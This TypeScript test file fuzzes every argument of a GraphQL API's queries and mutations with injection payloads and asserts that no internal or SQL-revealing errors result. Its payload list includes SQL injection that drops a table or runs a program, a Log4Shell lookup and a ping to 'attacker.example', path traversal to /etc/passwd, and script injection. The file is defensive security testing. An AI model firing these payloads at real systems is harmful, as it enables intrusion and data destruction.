import { readdirSync, readFileSync } from 'node:fs';
import { anonymous, type Principal } from '@guanjia/kernel/principal';
import { isRole, roles } from '@guanjia/kernel/roles';
import {
  buildSchema,
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  type OperationDefinitionNode,
  parse,
  typeFromAST,
} from 'graphql';
import { describe, expect, it } from 'vitest';
import { busyProject, startWholeGraph } from './kit/startWholeGraph.ts';

const schemaFolder = new URL('../../schema/', import.meta.url);
const apiSchema = buildSchema(readFileSync(new URL('api.graphql', schemaFolder), 'utf8'));
const documents = readdirSync(new URL('operations/', schemaFolder)).map((file) =>
  readFileSync(new URL(`operations/${file}`, schemaFolder), 'utf8'),
);
const everyRole = Object.keys(roles)
  .filter(isRole)
  .filter((role) => role !== 'SYSTEM');
const kinds = ['query', 'mutation'] as const;

const payloads = [
  `'; drop table approval.projects; --`,
  `' or '1'='1`,
  `1); select pg_sleep(10); --`,
  `%' union select null, version() --`,
  `\\'; copy approval.projects to program 'id'; --`,
  `$$; select 1; $$`,
  `$1`,
  `{"$gt": ""}`,
  `\${jndi:ldap://attacker.example/x}`,
  `{{7*7}}`,
  `<script>alert(1)</script>`,
  `../../../../etc/passwd`,
  `|| ping -c 10 attacker.example`,
  `%_%_%`,
  `(?:a+)+$`,
  `__proto__`,
  'x'.repeat(10_000),
];

/** A value of the type in which every text is the payload. */
function valueOf(type: GraphQLInputType, payload: string, depth = 0): unknown {
  if (isNonNullType(type)) return valueOf(type.ofType, payload, depth);
  if (isListType(type)) return [valueOf(type.ofType, payload, depth)];
  if (isEnumType(type)) return type.getValues()[0]?.name;
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields()).filter((field) => depth < 4 || isNonNullType(field.type));
    return Object.fromEntries(fields.map((field) => [field.name, valueOf(field.type, payload, depth + 1)]));
  }
  switch (type.name) {
    case 'Int':
    case 'Float':
      return 1;
    case 'Boolean':
      return true;
    case 'Date':
      return '2026-03-09';
    case 'DateTime':
      return '2026-03-09T10:00:00+08:00';
    case 'JSON':
      return { [payload.slice(0, 50)]: payload };
    default:
      return payload;
  }
}

function variablesOf(operation: OperationDefinitionNode, payload: string): Record<string, unknown> {
  const entries = (operation.variableDefinitions ?? []).map(({ variable, type }) => {
    const inputType = typeFromAST(apiSchema, type as never) as GraphQLInputType | undefined;
    if (inputType === undefined) throw new Error(`no type for $${variable.name.value}`);
    return [variable.name.value, valueOf(inputType, payload)];
  });
  return Object.fromEntries(entries);
}

const operations = documents.flatMap((source) =>
  parse(source)
    .definitions.filter((definition) => definition.kind === 'OperationDefinition')
    .filter(({ operation, variableDefinitions }) => operation !== 'subscription' && variableDefinitions?.length)
    .map((definition) => ({ source, definition, name: definition.name?.value ?? '' })),
);

describe('attack: injection', () => {
  it.each(kinds)('each argument of each known %s is an attack', { timeout: 300_000 }, async (kind) => {
    const everybody = { ...anonymous, subject: 'everybody', name: '演示', roles: everyRole, regions: ['37'] };
    let principal: Principal = everybody;
    const graph = await startWholeGraph({ identity: { authenticate: async () => ({ principal, expiresAt: null }) } });
    const { projectId, creditCode } = await busyProject(graph);
    principal = {
      ...everybody,
      ownerUnit: creditCode,
      agency: 'NATURAL_RESOURCES',
      provider: 'provider-water',
      tier: 'PROVINCE',
    };
    const tried = operations.filter(({ definition }) => definition.operation === kind);
    expect(tried.length).toBeGreaterThan(30);
    const faults: string[] = [];
    let refusedAtTheDoor = 0;
    for (const { source, definition, name } of tried) {
      const answers = await Promise.all(
        payloads.map(async (payload) => {
          const { errors = [], data } = await graph.gateway.ask(source, {
            variables: variablesOf(definition, payload),
          });
          return { payload, errors, data };
        }),
      );
      for (const { payload, errors, data } of answers) {
        if (data === undefined) refusedAtTheDoor += 1;
        for (const { message, extensions } of errors) {
          const isOfAway = extensions?.department === 'exchange';
          const isFault = ['INTERNAL_FAULT', 'INTERNAL_SERVER_ERROR'].includes(extensions?.code);
          const tells = /syntax error|relation "|column "|select |insert into/i.test(
            `${message} ${extensions?.messageZh}`,
          );
          if (!isOfAway && (isFault || tells))
            faults.push(`${name} ${payload.slice(0, 40)}: ${JSON.stringify({ message, extensions }).slice(0, 300)}`);
        }
      }
    }
    expect(faults).toEqual([]);
    // the rest have reached a department
    expect(refusedAtTheDoor).toBeLessThan(tried.length * payloads.length * 0.1);
    const { data } = await graph.gateway.ask('query ($id: ID!) { project(id: $id) { id } }', {
      variables: { id: projectId },
    });
    expect(data).toEqual({ project: { id: projectId } });
  });
});
